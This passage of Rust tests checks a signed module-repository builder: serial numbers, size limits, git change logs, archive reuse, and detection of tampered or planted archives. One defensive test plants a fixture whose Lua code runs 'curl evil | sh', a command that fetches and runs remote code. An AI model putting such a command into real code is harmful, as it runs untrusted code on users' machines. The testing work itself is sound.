        let later = second + time::Duration::milliseconds(300);
        // No previous index: two builds in one second still differ.
        let first = next_serial(out.path(), second);
        assert_eq!(first, 1_793_491_200_000_000);
        assert!(next_serial(out.path(), later) > first);
        // Above what `out` holds, even if the clock went back.
        std::fs::write(
            out.path().join("index.json"),
            format!(r#"{{"serial": {}}}"#, first + 5),
        )
        .unwrap();
        assert_eq!(next_serial(out.path(), second), first + 6);
        // Serials of builds that counted seconds are far below.
        std::fs::write(out.path().join("index.json"), r#"{"serial": 1793491200}"#).unwrap();
        assert_eq!(next_serial(out.path(), later), first + 300_000);
    }

    #[test]
    fn a_module_over_the_index_limits_is_left_out_with_a_warning() {
        let dir = tempfile::tempdir().unwrap();
        let tree = dir.path().join("tree");
        for (name, summary) in [("small", "fine".to_owned()), ("big", "s".repeat(2000))] {
            let module = tree.join(format!("mod_{name}"));
            std::fs::create_dir_all(&module).unwrap();
            std::fs::write(module.join(format!("mod_{name}.lua")), "-- code\n").unwrap();
            std::fs::write(
                module.join("README.markdown"),
                format!("---\nsummary: {summary}\n---\n"),
            )
            .unwrap();
        }
        let built = TestBuild::new(dir.path());
        let out = &built.out;
        let report = build(&built.options(&tree)).unwrap();
        assert_eq!(report.modules, 1);
        assert!(
            report
                .warnings
                .iter()
                .any(|w| w.starts_with("mod_big: the summary is 2000 bytes")
                    && w.contains(&format!("{}", limits::SUMMARY))
                    && w.ends_with("skipped")),
            "{:?}",
            report.warnings
        );
        let index = Index::parse(&std::fs::read(out.join("index.json")).unwrap()).unwrap();
        assert_eq!(index.repository, "local");
        assert!(index.get("big").is_none() && index.get("small").is_some());
    }

    #[test]
    fn a_checkout_gives_each_build_the_commits_since_the_previous_one() {
        let dir = tempfile::tempdir().unwrap();
        let tree = dir.path().join("tree");
        let module = tree.join("mod_a");
        std::fs::create_dir_all(&module).unwrap();
        let git = |args: &[&str]| {
            let output = Command::new("git")
                .args(["-c", "user.name=t", "-c", "user.email=t@localhost"])
                .args(args)
                .current_dir(&tree)
                .output()
                .unwrap();
            assert!(output.status.success(), "{output:?}");
        };
        let commit = |text: &str, message: &str| {
            std::fs::write(module.join("mod_a.lua"), text).unwrap();
            git(&["add", "-A"]);
            git(&["commit", "-q", "-m", message]);
        };
        git(&["init", "-q"]);
        commit("-- one\n", "First");
        let built = TestBuild::new(dir.path());
        let (options, out) = (built.options(&tree), &built.out);
        let changes = || {
            build(&options).unwrap();
            let index = Index::parse(&std::fs::read(out.join("index.json")).unwrap()).unwrap();
            let summaries: Vec<String> = (index.modules[0].changes.iter())
                .map(|c| c.summary.clone())
                .collect();
            summaries
        };
        // No previous build: no log.
        assert!(changes().is_empty());
        commit("-- two\n", "Second");
        commit("-- three\n", "Third");
        assert_eq!(changes(), ["Third", "Second"]);
        // Unchanged: the same log; then the next commit goes on top.
        assert_eq!(changes(), ["Third", "Second"]);
        commit("-- four\n", "Fourth");
        assert_eq!(changes(), ["Fourth", "Third", "Second"]);
    }

    #[test]
    fn earlier_builds_are_kept_served_and_listed_newest_first_up_to_keep() {
        let dir = tempfile::tempdir().unwrap();
        let tree = dir.path().join("tree");
        let module = tree.join("mod_lastlog");
        std::fs::create_dir_all(&module).unwrap();
        let key = dir.path().join("key");
        signing::generate(&key).unwrap();
        let out = dir.path().join("repo");
        let mut newest = Vec::new();
        for build_number in 0..4 {
            let code = format!("-- build {build_number}\n");
            std::fs::write(module.join("mod_lastlog.lua"), code).unwrap();
            build(&BuildOptions {
                tree: &tree,
                out: &out,
                name: "local",
                key: &key,
                builtin_dir: dir.path(),
                valid_for: time::Duration::days(1),
                keep: 2,
            })
            .unwrap();
            let index = Index::parse(&std::fs::read(out.join("index.json")).unwrap()).unwrap();
            newest.push(index.get("lastlog").unwrap().clone());
        }
        let last = newest.last().unwrap();
        let listed: Vec<&str> = last.previous.iter().map(|e| e.version.as_str()).collect();
        assert_eq!(listed, [&newest[2].version, &newest[1].version]);
        for earlier in &last.previous {
            let bytes = std::fs::read(out.join(&earlier.archive)).unwrap();
            assert_eq!(super::super::sha256_hex(&bytes), earlier.sha256);
        }
        // The build before those is no longer served, and what is served
        // verifies, earlier builds and all.
        assert!(!out.join(&newest[0].archive).exists());
        let public = signing::read_private(&key).unwrap().verifying_key();
        assert_eq!(super::super::verify::verify(&out, &public).problems, []);
        std::fs::write(out.join(&last.previous[1].archive), b"other bytes").unwrap();
        let problems = super::super::verify::verify(&out, &public).problems;
        assert!(!problems.is_empty());
        assert!(
            problems.iter().all(|p| p.file == last.previous[1].archive),
            "{problems:?}"
        );
        let chosen = last.at_version(&newest[1].version).unwrap();
        assert_eq!(chosen.sha256, newest[1].sha256);
        assert!(last.at_version("19700101.0").is_none());
    }

    #[test]
    fn an_unchanged_archive_is_linked_from_the_last_build_and_a_tampered_one_rewritten() {
        use std::os::unix::fs::MetadataExt;
        let dir = tempfile::tempdir().unwrap();
        let tree = dir.path().join("tree");
        for name in ["a", "b", "c"] {
            let module = tree.join(format!("mod_{name}"));
            std::fs::create_dir_all(&module).unwrap();
            std::fs::write(module.join(format!("mod_{name}.lua")), "-- code\n").unwrap();
        }
        let built = TestBuild::new(dir.path());
        let out = &built.out;
        let archives = || {
            let index = Index::parse(&std::fs::read(out.join("index.json")).unwrap()).unwrap();
            index
                .modules
                .iter()
                .map(|m| out.join(&m.archive))
                .collect::<Vec<_>>()
        };
        build(&built.options(&tree)).unwrap();
        let first = archives();
        let inode = |path: &Path| std::fs::metadata(path).unwrap().ino();
        let inodes: Vec<u64> = first.iter().map(|p| inode(p)).collect();
        let packed = std::fs::read(&first[1]).unwrap();
        // Changed in place on the server, length kept.
        let mut tampered = packed.clone();
        let last = tampered.len() - 1;
        tampered[last] ^= 0xff;
        std::fs::write(&first[1], &tampered).unwrap();
        // Replaced by a link to the very bytes: never linked in.
        let elsewhere = dir.path().join("elsewhere.tar.gz");
        std::fs::rename(&first[2], &elsewhere).unwrap();
        std::os::unix::fs::symlink(&elsewhere, &first[2]).unwrap();

        build(&built.options(&tree)).unwrap();
        let second = archives();
        assert_eq!(first, second);
        assert_eq!(
            inode(&second[0]),
            inodes[0],
            "an unchanged archive is linked"
        );
        assert_eq!(std::fs::read(&second[1]).unwrap(), packed);
        assert!(std::fs::symlink_metadata(&second[2]).unwrap().is_file());
        let public = signing::read_private(&built.key).unwrap().verifying_key();
        assert_eq!(super::super::verify::verify(out, &public).problems, []);
    }

    /// Every file a build published at `out` (its index apart), by path,
    /// and its index without what differs from build to build.
    fn published_files(out: &Path) -> (std::collections::BTreeMap<PathBuf, Vec<u8>>, Index) {
        let mut files = std::collections::BTreeMap::new();
        let mut dirs = vec![out.to_owned()];
        while let Some(dir) = dirs.pop() {
            for entry in std::fs::read_dir(&dir).unwrap() {
                let path = entry.unwrap().path();
                let relative = path.strip_prefix(out).unwrap().to_owned();
                if path.is_dir() {
                    dirs.push(path);
                } else if !relative.starts_with("index.json")
                    && relative != Path::new("index.json.sig")
                {
                    files.insert(relative, std::fs::read(&path).unwrap());
                }
            }
        }
        let mut index = Index::parse(&std::fs::read(out.join("index.json")).unwrap()).unwrap();
        let epoch = Timestamp(time::OffsetDateTime::UNIX_EPOCH);
        (index.serial, index.generated, index.expires) = (0, epoch, epoch);
        (files, index)
    }

    #[test]
    fn a_rebuild_reuses_what_did_not_change_and_equals_a_fresh_build() {
        use std::os::unix::fs::MetadataExt;
        let dir = tempfile::tempdir().unwrap();
        let tree = dir.path().join("tree");
        let write = |file: &str, text: &str| {
            let path = tree.join(file);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        };
        for name in ["a", "b", "c", "d"] {
            write(
                &format!("mod_{name}/mod_{name}.lua"),
                "module:depends('c')\n",
            );
            write(
                &format!("mod_{name}/README.markdown"),
                "---\nsummary: S\n---\nText\n",
            );
        }
        write("mod_b/lib/helper.lua", "return {}\n");
        let built = TestBuild::new(dir.path());
        // Earlier builds kept would be listed by the rebuild only.
        let options = BuildOptions {
            keep: 0,
            ..built.options(&tree)
        };
        let index =
            |out: &Path| Index::parse(&std::fs::read(out.join("index.json")).unwrap()).unwrap();
        let inode = |out: &Path, entry: &ModuleEntry| {
            std::fs::metadata(out.join(&entry.archive)).unwrap().ino()
        };
        build(&options).unwrap();
        let first = index(&built.out);
        let inodes: Vec<u64> = ["a", "b", "c"]
            .map(|name| inode(&built.out, first.get(name).unwrap()))
            .into();

        // a changes; b's files are the same bytes, dated another day
        // (which dates its version); c stays; d goes; e comes.
        write("mod_a/mod_a.lua", "module:depends('b')\n");
        let day = std::time::UNIX_EPOCH + std::time::Duration::from_secs(978_307_200);
        for file in ["mod_b.lua", "README.markdown", "lib/helper.lua"] {
            let file = std::fs::File::options()
                .write(true)
                .open(tree.join("mod_b").join(file));
            file.unwrap().set_modified(day).unwrap();
        }
        std::fs::remove_dir_all(tree.join("mod_d")).unwrap();
        write("mod_e/mod_e.lua", "-- new\n");
        let report = build(&options).unwrap();
        let rebuilt = index(&built.out);
        let fresh = dir.path().join("fresh");
        let fresh_report = build(&BuildOptions {
            out: &fresh,
            ..options
        })
        .unwrap();

        assert_eq!(published_files(&built.out), published_files(&fresh));
        assert_eq!(report.warnings, fresh_report.warnings);
        let [a, b, c] = ["a", "b", "c"].map(|name| rebuilt.get(name).unwrap());
        // b and c reused (b under its new version), a packed anew.
        assert_eq!(inode(&built.out, c), inodes[2]);
        assert_eq!(c.archive, first.get("c").unwrap().archive);
        assert_eq!(inode(&built.out, b), inodes[1]);
        assert_ne!(b.archive, first.get("b").unwrap().archive);
        assert!(b.version.starts_with("20010101."), "{}", b.version);
        assert_ne!(inode(&built.out, a), inodes[0]);
        assert_ne!(a.sha256, first.get("a").unwrap().sha256);
        assert!(rebuilt.get("d").is_none() && rebuilt.get("e").is_some());
    }

    /// Whoever can write the output directory can plant an archive, or a
    /// record of sources naming it, but the next build never signs it:
    /// it publishes what a fresh build of the tree publishes.
    #[test]
    fn an_archive_or_record_planted_in_the_output_is_never_signed() {
        let dir = tempfile::tempdir().unwrap();
        let tree = dir.path().join("tree");
        for name in ["a", "b"] {
            let module = tree.join(format!("mod_{name}"));
            std::fs::create_dir_all(&module).unwrap();
            std::fs::write(module.join(format!("mod_{name}.lua")), "-- code\n").unwrap();
        }
        let built = TestBuild::new(dir.path());
        let (out, options) = (&built.out, built.options(&tree));
        let fresh = dir.path().join("fresh");
        let fresh_report = build(&BuildOptions {
            out: &fresh,
            ..built.options(&tree)
        })
        .unwrap();
        let evil = archive::pack_files(
            "a",
            &[archive::ArchiveFile {
                path: "mod_a.lua".into(),
                data: b"os.execute('curl evil | sh')\n".to_vec(),
                executable: false,
            }],
        )
        .unwrap();
        let attacker = ed25519_dalek::SigningKey::from_bytes(&[9; 32]);
        for forge_record in [false, true] {
            build(&options).unwrap();
            let index = Index::parse(&std::fs::read(out.join("index.json")).unwrap()).unwrap();
            let a = index.get("a").unwrap();
            std::fs::write(out.join(&a.archive), &evil).unwrap();
            if forge_record {
                // The record rewritten to name the planted bytes, signed
                // with a key that is not the repository's.
                let record = std::fs::read_to_string(out.join(sources::FILE)).unwrap();
                let record = record
                    .replace(&a.sha256, &super::super::sha256_hex(&evil))
                    .replace(
                        &format!("\"size\":{}", a.size),
                        &format!("\"size\":{}", evil.len()),
                    );
                std::fs::write(out.join(sources::FILE), &record).unwrap();
                let signature = signing::sign(&attacker, record.as_bytes());
                std::fs::write(out.join(sources::SIGNATURE), signature).unwrap();
            }
            // One warning more than a fresh build: what was not used.
            let report = build(&options).unwrap();
            let warned = report.warnings.len() - fresh_report.warnings.len();
            assert_eq!(warned, 1, "{:?}", report.warnings);
            let index = Index::parse(&std::fs::read(out.join("index.json")).unwrap()).unwrap();
            assert_ne!(
                index.get("a").unwrap().sha256,
                super::super::sha256_hex(&evil)
            );
            assert_eq!(published_files(out), published_files(&fresh));
        }
    }

    #[test]
    fn a_bad_repository_name_is_refused_before_anything_is_written() {
        let dir = tempfile::tempdir().unwrap();
        let key = ed25519_dalek::SigningKey::from_bytes(&[5; 32]);
        let out = dir.path().join("repo");
        for name in ["", "../x", "a b", &"n".repeat(65)] {
            let error = publish(
                &out,
                name,
                &key,
                time::Duration::days(1),
                vec![],
                vec![],
                None,
            );
            assert!(matches!(error, Err(BuildError::Name(_))), "{name}");
        }
        assert!(!out.exists());
    }
}
